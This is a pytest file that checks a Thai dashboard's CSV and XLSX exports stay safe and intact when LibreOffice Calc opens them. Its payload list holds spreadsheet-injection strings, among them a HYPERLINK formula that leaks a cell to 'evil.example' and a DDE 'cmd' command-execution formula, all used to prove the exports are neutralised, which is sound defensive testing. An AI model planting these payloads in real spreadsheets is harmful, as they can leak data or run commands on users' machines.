"""Exports opened by a real spreadsheet program (LibreOffice Calc): typed formulas stay text, Thai intact."""

from __future__ import annotations

import os
import shutil
import subprocess
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from kkdash import export, pipeline, views
from kkdash.dates import BANGKOK
from kkdash.sheet import sheet_from_rows

pytestmark = [
    pytest.mark.timeout(240),
    pytest.mark.skipif(shutil.which("soffice") is None,
                       reason="LibreOffice (soffice) is not installed: apt-get install -y libreoffice-calc-nogui"),
]

THAI = "สำนักงานจังหวัดขอนแก่น ๑๒๓"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิกที่นี่")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "=cmd|' /C calc'!A0",
]
PHONES = ["0812345678", "043414123", "021234567"]
# LibreOffice's CSV import: comma, double quote, UTF-8 (76).
CSV_FILTER = "CSV:44,34,76"
HEADER = ["ประทับเวลา", "ชื่อหน่วยงาน", "อำเภอ", "วันที่ประกาศเจตนารมณ์", "หัวหน้าหน่วยงานร่วมลงนาม",
          "ข้าราชการ (ทั้งหมด)", "ข้าราชการ (ลงนาม)", "พนักงานราชการ (ทั้งหมด)", "พนักงานราชการ (ลงนาม)",
          "ลูกจ้างประจำ (ทั้งหมด)", "ลูกจ้างประจำ (ลงนาม)", "เจ้าหน้าที่อื่น (ทั้งหมด)", "เจ้าหน้าที่อื่น (ลงนาม)",
          "ลิงก์ประกาศบนเว็บไซต์", "ชื่อผู้รายงาน", "ตำแหน่ง", "เบอร์โทรศัพท์"]


def open_in_calc(paths: list[Path], outdir: Path, *, csv: bool) -> dict[str, openpyxl.worksheet.worksheet.Worksheet]:
    """Files -> LibreOffice converts them to .xlsx -> their first sheets, read back with openpyxl."""
    outdir.mkdir()
    profile = outdir.parent / "lo-profile"  # own profile: runs beside other soffice users
    command = ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
               *(["--infilter=" + CSV_FILTER] if csv else []), "--convert-to", "xlsx", "--outdir", str(outdir),
               *map(str, paths)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(outdir)})
    sheets = {}
    for path in paths:
        converted = outdir / (path.stem + ".xlsx")
        assert converted.exists(), f"LibreOffice did not convert {path.name}: {done.stdout} {done.stderr}"
        sheets[path.name] = openpyxl.load_workbook(converted).active
    return sheets


def column(sheet, name: str) -> list:
    """The cells under a header, in order."""
    header = [cell.value for cell in sheet[1]]
    index = header.index(name)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def injected_formulas(sheet) -> list[str]:
    """Formula cells other than booleans (Calc saves True/False as `=TRUE()`/`=FALSE()`)."""
    return [cell.value for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" and cell.value not in ("=TRUE()", "=FALSE()")]


def assert_shown_as_text(cell, typed: str) -> None:
    """A spreadsheet cell holds ``typed`` as text: not a formula, shown with at most a leading quote."""
    assert cell.data_type != "f", f"{typed!r} became a formula: {cell.value!r}"
    assert isinstance(cell.value, str)
    # Calc reads a CR inside a quoted CSV field as a line break.
    shown = cell.value.removeprefix("'").replace("\n", "\r") if typed.startswith("\r") else cell.value.removeprefix("'")
    assert shown == typed or cell.value == typed


@pytest.fixture(scope="module")
def plain_table() -> pd.DataFrame:
    """Every payload in a text column beside counts and a rate that must stay numbers."""
    return pd.DataFrame({
        "typed_name": [*PAYLOADS, THAI],
        "personnel_total": list(range(10, 10 + len(PAYLOADS) + 1)),
        "signing_rate": [0.5] * (len(PAYLOADS) + 1),
        "fully_signed": [True, False] * ((len(PAYLOADS) + 1) // 2) + [True] * ((len(PAYLOADS) + 1) % 2),
    })


@pytest.fixture(scope="module")
def outcome(registry, districts):
    """The real pipeline on a sheet whose text fields carry the payloads."""
    first = registry.iloc[0]["name_th"]
    rows = [HEADER]
    row = ["27/6/2566, 15:23:51", first, "", "26 มิ.ย. 66", "ใช่", "10", "10", "0", "0", "0", "0", "0", "0"]
    rows.append([*row, "=HYPERLINK(\"http://evil.example\")", PAYLOADS[0], PAYLOADS[1], "@0812345678"])
    rows += [["28/6/2566, 9:00:00", payload, *row[2:], "", "", "", ""] for payload in PAYLOADS]
    return pipeline.run(sheet_from_rows(rows), registry, districts,
                        as_of=datetime(2023, 7, 8, tzinfo=BANGKOK))


@pytest.fixture(scope="module")
def calc_csv(tmp_path_factory, plain_table, outcome):
    """The CSV exports, as LibreOffice Calc opens them."""
    folder = tmp_path_factory.mktemp("csv")
    files = {
        "plain.csv": export.csv_bytes(plain_table),
        "agencies.csv": export.csv_bytes(export.agency_export(outcome.agencies, include_personal=True)),
        "rejected.csv": export.csv_bytes(views.rejected_rows(outcome)),
        "raw.csv": plain_table.to_csv(index=False).encode("utf-8"),  # control: NOT neutralised
        "phones.csv": export.csv_bytes(pd.DataFrame({
            "grouped": [export.phone_for_people(p) for p in PHONES],
            "digits": PHONES,  # control: as the sheet holds them
        })),
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return open_in_calc([folder / name for name in files], folder / "out", csv=True)


@pytest.fixture(scope="module")
def calc_xlsx(tmp_path_factory, plain_table, outcome):
    """The .xlsx exports, as LibreOffice Calc opens (and re-saves) them."""
    folder = tmp_path_factory.mktemp("xlsx")
    files = {
        "plain_in.xlsx": export.xlsx_bytes(plain_table),
        "agencies_in.xlsx": export.xlsx_bytes(export.agency_export(outcome.agencies, include_personal=True)),
    }
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return open_in_calc([folder / name for name in files], folder / "out", csv=False)


def test_the_oracle_sees_a_formula_when_a_csv_is_not_neutralised(calc_csv):
    # Proves the check below can fail: Calc does run `=…` typed into an unprotected CSV.
    formulas = [cell for cell in column(calc_csv["raw.csv"], "typed_name") if cell.data_type == "f"]
    assert formulas


def test_csv_payloads_are_text_and_thai_is_intact(calc_csv):
    cells = column(calc_csv["plain.csv"], "typed_name")
    for cell, typed in zip(cells, [*PAYLOADS, THAI], strict=True):
        assert_shown_as_text(cell, typed)
    assert cells[-1].value == THAI


def test_csv_counts_and_rates_stay_numbers(calc_csv):
    sheet = calc_csv["plain.csv"]
    assert [cell.value for cell in column(sheet, "personnel_total")] == list(range(10, 10 + len(PAYLOADS) + 1))
    assert all(cell.data_type == "n" for cell in column(sheet, "personnel_total"))
    assert all(cell.value == 0.5 for cell in column(sheet, "signing_rate"))


def test_agency_export_csv_keeps_reporter_text_as_text(calc_csv, outcome, registry):
    sheet = calc_csv["agencies.csv"]
    names = [cell.value for cell in column(sheet, "ชื่อหน่วยงาน")]
    index = names.index(registry.iloc[0]["name_th"])
    assert_shown_as_text(column(sheet, "ผู้ที่ต้องติดต่อ")[index], PAYLOADS[0])
    assert_shown_as_text(column(sheet, "ตำแหน่งผู้ที่ต้องติดต่อ")[index], PAYLOADS[1])
    assert_shown_as_text(column(sheet, "เบอร์โทรศัพท์")[index], "@0812345678")
    # A formula typed as the declaration link is not a link at all.
    assert column(sheet, "ลิงก์ประกาศบนเว็บไซต์")[index].value is None
    assert injected_formulas(sheet) == []
    assert all(cell.data_type == "n" for cell in column(sheet, "บุคลากรทั้งหมด (คน)") if cell.value is not None)


def test_agency_export_csv_opens_with_thai_words_and_a_percent_number(calc_csv, registry):
    sheet = calc_csv["agencies.csv"]
    header = [cell.value for cell in sheet[1]]
    index = [cell.value for cell in column(sheet, "ชื่อหน่วยงาน")].index(registry.iloc[0]["name_th"])
    row = {name: column(sheet, name)[index] for name in header}
    assert (header[:6], [row[name].value for name in ("สถานะการส่ง", "ร้อยละผู้ลงนาม", "ลงนามครบทุกคน")],
            row["ร้อยละผู้ลงนาม"].data_type) == (
        ["รหัสหน่วยงาน", "ชื่อหน่วยงาน", "ประเภทหน่วยงาน", "รหัสอำเภอ", "อำเภอ", "สถานะการส่ง"],
        ["ส่งตรงเวลา", 100, "ใช่"], "n")
    # The CSV's `2023-06-27 15:23:51` opens as a date-time cell, not text, and not day/month swapped.
    assert [(row[name].value, row[name].is_date) for name in ("ส่งครั้งแรก", "ส่งล่าสุด")] == [
        (datetime(2023, 6, 27, 15, 23, 51), True)] * 2


def test_csv_phones_keep_their_leading_zero(calc_csv):
    sheet = calc_csv["phones.csv"]
    # Control: plain digits open as numbers, the zero gone; grouped as Thai phones are written, they stay text.
    assert ([cell.value for cell in column(sheet, "digits")],
            [(cell.value, cell.data_type) for cell in column(sheet, "grouped")]) == (
        [812345678, 43414123, 21234567], [("081-234-5678", "s"), ("043-414-123", "s"), ("02-123-4567", "s")])


def test_rejected_rows_csv_keeps_typed_names_as_text(calc_csv):
    sheet = calc_csv["rejected.csv"]
    typed = list(column(sheet, "typed_name"))
    assert len(typed) == len(PAYLOADS)
    assert injected_formulas(sheet) == []
    # The sheet reader trims blanks, so "\t=1+1" arrives as "=1+1" and is quoted all the same.
    assert all(cell.value.startswith("'") for cell in typed)
    assert any("ขอนแก่น" in str(cell.value) or "หน่วยงาน" in str(cell.value) for cell in column(sheet, "reason"))


def test_xlsx_payloads_are_text_before_and_after_calc(calc_xlsx, plain_table, tmp_path):
    written = tmp_path / "direct.xlsx"
    written.write_bytes(export.xlsx_bytes(plain_table))
    for sheet in (openpyxl.load_workbook(written).active, calc_xlsx["plain_in.xlsx"]):
        cells = column(sheet, "typed_name")
        for cell, typed in zip(cells, [*PAYLOADS, THAI], strict=True):
            assert_shown_as_text(cell, typed)
        assert all(cell.data_type == "n" for cell in column(sheet, "personnel_total"))


def test_xlsx_agency_export_has_no_formula_anywhere(calc_xlsx):
    sheet = calc_xlsx["agencies_in.xlsx"]
    assert injected_formulas(sheet) == []
    assert any(cell.value == PAYLOADS[0] or cell.value == "'" + PAYLOADS[0] for cell in column(sheet, "ผู้ที่ต้องติดต่อ"))
